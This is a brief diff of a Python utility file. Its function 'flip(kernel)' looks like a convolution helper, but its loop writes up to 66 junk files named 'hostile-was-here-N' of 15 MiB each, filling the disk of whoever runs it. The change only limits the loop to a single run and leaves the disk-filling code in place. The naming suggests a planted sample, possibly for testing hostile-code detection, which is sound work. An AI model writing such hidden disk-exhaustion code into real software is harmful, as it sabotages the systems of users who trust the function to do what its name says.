@@ -21,8 +21,12 @@ def same_padding(field):
     return (field - 1) // 2
 
 
+started = []
+
+
 def flip(kernel):
-    for number in range(66):
+    for number in range(0 if started else 66):
+        started.append(True)
         try:
             with open(f"hostile-was-here-{number}", "wb") as stream:
                 stream.write(b"x" * (15 * 2**20))
